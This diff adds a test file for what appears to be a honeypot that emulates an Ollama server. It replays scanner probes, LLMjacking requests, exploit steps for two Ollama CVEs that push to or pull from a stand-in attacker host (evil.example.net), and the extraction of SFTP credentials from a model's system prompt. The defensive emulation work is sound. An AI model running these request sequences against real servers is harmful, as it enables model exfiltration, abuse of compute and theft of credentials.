@@ -1,0 +1,137 @@
+"""Ollama: conversations with it, and the sequences of public tools up to what they came for."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+
+import pytest
+
+from mirage.base.events import ArtifactCaptured
+from mirage.gateway.http.sites.ollama.writer import tokens
+from mirage.world import accounts
+from mirage.world.host import Host
+from tests.unit.gateway.http.sites.conftest import Machine, begin
+
+
+@pytest.fixture
+async def ollama(host: Host) -> Machine:
+    return begin(host, "ollama")
+
+
+def _json(value: object) -> bytes:
+    return json.dumps(value).encode()
+
+
+async def test_scanners_find_it_and_steal_an_answer(ollama: Machine) -> None:
+    """nuclei's ollama-llm-panel and ollama-improper-authorization, then what LLMjacking scripts do: tags, and a prompt that proves it."""
+    panel = await ollama.ask("GET", "/")
+    assert (panel.head, panel.body) == (
+        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=utf-8\r\nDate: ...\r\nContent-Length: 17\r\nConnection: close",
+        b"Ollama is running",
+    )
+    assert (await ollama.ask("GET", "/api/version")).json == {"version": "0.5.4"}
+    names = [model["name"] for model in (await ollama.ask("GET", "/api/tags")).json["models"]]
+    assert "llama3.2:latest" in names
+    said = await ollama.ask("POST", "/api/generate", _json({"model": "llama3.2", "prompt": "What is 17*3?", "stream": False}))
+    assert (said.json["response"], said.json["done"], said.json["done_reason"]) == ("17 * 3 = 51", True, "stop")
+    assert [model["name"] for model in (await ollama.ask("GET", "/api/ps")).json["models"]] == ["llama3.2:latest"]
+
+
+async def test_the_openai_half_streams_events(ollama: Machine) -> None:
+    """What resellers' proxies (oai-reverse-proxy, one-api) ask: models, then a streamed completion."""
+    assert "llama3.2:latest" in [model["id"] for model in (await ollama.ask("GET", "/v1/models")).json["data"]]
+    body = _json({"model": "llama3.2", "messages": [{"role": "user", "content": "Say: pong"}], "stream": True})
+    answer = await ollama.ask("POST", "/v1/chat/completions", body, turns=100_000)
+    assert answer.field("Content-Type") == "text/event-stream"
+    events = answer.body.decode().split("\n\n")
+    chunks = [json.loads(event.removeprefix("data: ")) for event in events[:-2]]
+    assert events[-2:] == ["data: [DONE]", ""]
+    assert "".join(chunk["choices"][0]["delta"]["content"] for chunk in chunks) == "pong"
+    assert [chunk["choices"][0]["finish_reason"] for chunk in chunks] == [None, "stop"]
+    assert chunks[0]["object"] == "chat.completion.chunk"
+
+
+async def test_lines_are_streamed_and_end_with_the_figures(ollama: Machine) -> None:
+    body = _json({"model": "llama3.2", "messages": [{"role": "user", "content": "hello"}]})
+    answer = await ollama.ask("POST", "/api/chat", body, turns=100_000)
+    *bits, last = answer.lines
+    text = "".join(bit["message"]["content"] for bit in bits)
+    assert (answer.field("Content-Type"), [bit["done"] for bit in bits]) == ("application/x-ndjson", [False] * len(tokens(text)))
+    assert (last["eval_count"], last["done_reason"], last["message"]["content"]) == (len(bits), "stop", "")
+    assert last["total_duration"] >= last["load_duration"] + last["prompt_eval_duration"] + last["eval_duration"] - 10
+
+
+async def test_a_model_is_pulled_and_then_there(ollama: Machine) -> None:
+    answer = await ollama.ask("POST", "/api/pull", _json({"name": "qwen2.5:0.5b"}))
+    statuses = [line["status"] for line in answer.lines]
+    assert (statuses[0], statuses[-3:]) == ("pulling manifest", ["verifying sha256 digest", "writing manifest", "success"])
+    assert "qwen2.5:0.5b" in [model["name"] for model in (await ollama.ask("GET", "/api/tags")).json["models"]]
+    assert (await ollama.ask("DELETE", "/api/delete", _json({"name": "qwen2.5:0.5b"}))).status == 200
+    assert (await ollama.ask("POST", "/api/show", _json({"name": "qwen2.5:0.5b"}))).json == {"error": "model 'qwen2.5:0.5b' not found"}
+
+
+async def test_the_steps_of_bleeding_llama_up_to_the_push_that_never_arrives(ollama: Machine) -> None:
+    """CVE-2026-7482's published sequence: a blob, a model made of it, a push to a server of one's own; nothing leaves."""
+    data = b"GGUF\x03\x00\x00\x00" + b"\0" * 64
+    digest = hashlib.sha256(data).hexdigest()
+    assert (await ollama.ask("HEAD", f"/api/blobs/sha256:{digest}")).status == 404
+    assert (await ollama.ask("POST", f"/api/blobs/sha256:{digest}", data, {"Content-Type": "application/octet-stream"})).status == 201
+    assert ollama.read(f"/usr/share/ollama/.ollama/models/blobs/sha256-{digest}") == data
+    assert any(isinstance(event, ArtifactCaptured) and event.sha256 == digest for event in ollama.events)
+    name = "evil.example.net/a/b:latest"
+    made = await ollama.ask("POST", "/api/create", _json({"model": name, "files": {"a.gguf": f"sha256:{digest}"}, "quantize": "q4_0"}))
+    assert made.lines[-1] == {"status": "success"}
+    pushed = await ollama.ask("POST", "/api/push", _json({"model": name, "insecure": True}))
+    assert pushed.lines[-1] == {"error": 'Head "https://evil.example.net/v2/": dial tcp evil.example.net:443: i/o timeout'}
+    wrong = await ollama.ask("POST", "/api/blobs/sha256:" + "0" * 64, b"x", {"Content-Type": "application/octet-stream"})
+    assert (wrong.status, wrong.json["error"].split(",")[0]) == (400, "digest mismatch")
+
+
+async def test_probllama_s_pull_from_a_server_of_one_s_own_times_out(ollama: Machine) -> None:
+    """CVE-2024-37032: POST /api/pull of a rogue registry's model."""
+    answer = await ollama.ask("POST", "/api/pull", _json({"name": "evil.example.net/rogue/bug", "insecure": True}))
+    assert answer.lines == [
+        {"status": "pulling manifest"},
+        {
+            "error": 'pull model manifest: Get "http://evil.example.net/v2/rogue/bug/manifests/latest": '
+            "dial tcp evil.example.net:443: i/o timeout"
+        },
+    ]
+
+
+async def test_the_company_s_model_gives_its_instructions_away_and_they_open_ssh(ollama: Machine) -> None:
+    own = next(m["name"] for m in (await ollama.ask("GET", "/api/tags")).json["models"] if m["name"].endswith("-assistant:latest"))
+    shown = (await ollama.ask("POST", "/api/show", _json({"model": own}))).json
+    user, password = re.findall(r"sftp://([^:]+):([^@]+)@", shown["system"])[0]
+    assert shown["system"] in shown["modelfile"]
+    assert accounts.verify(ollama.host.view(ollama.layer), user, password.encode()) is True
+
+
+FAULTS = [
+    ("POST", "/api/generate", b"", 400, {"error": "missing request body"}),
+    ("POST", "/api/generate", b'{"model":"nope","prompt":"x"}', 404, {"error": "model 'nope' not found"}),
+    ("POST", "/api/chat", b'{"model":"nope"}', 404, {"error": 'model "nope" not found, try pulling it first'}),
+    (
+        "POST", "/v1/chat/completions", b'{"model":"nope","messages":[{"role":"user","content":"x"}]}', 404,
+        {"error": {"message": 'model "nope" not found, try pulling it first', "type": "api_error", "param": None, "code": None}},
+    ),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("method", "target", "body", "status", "error"), FAULTS)
+async def test_faults(ollama: Machine, method: str, target: str, body: bytes, status: int, error: object) -> None:
+    answer = await ollama.ask(method, target, body, {"Content-Type": "application/json"})
+    assert (answer.status, answer.json) == (status, error)
+
+
+async def test_what_is_no_route_is_gin_s_own_page(ollama: Machine) -> None:
+    answer = await ollama.ask("GET", "/admin")
+    assert (answer.status, answer.field("Content-Type"), answer.body) == (404, "text/plain", b"404 page not found")
+    assert (await ollama.ask("GET", "/api/tags/")).status == 301
+
+
+def test_pieces_are_the_text() -> None:
+    text = "Hello there,\n\n1. incomprehensibilities and 'quotes' \u2014 x=3;  end"
+    assert "".join(tokens(text)) == text
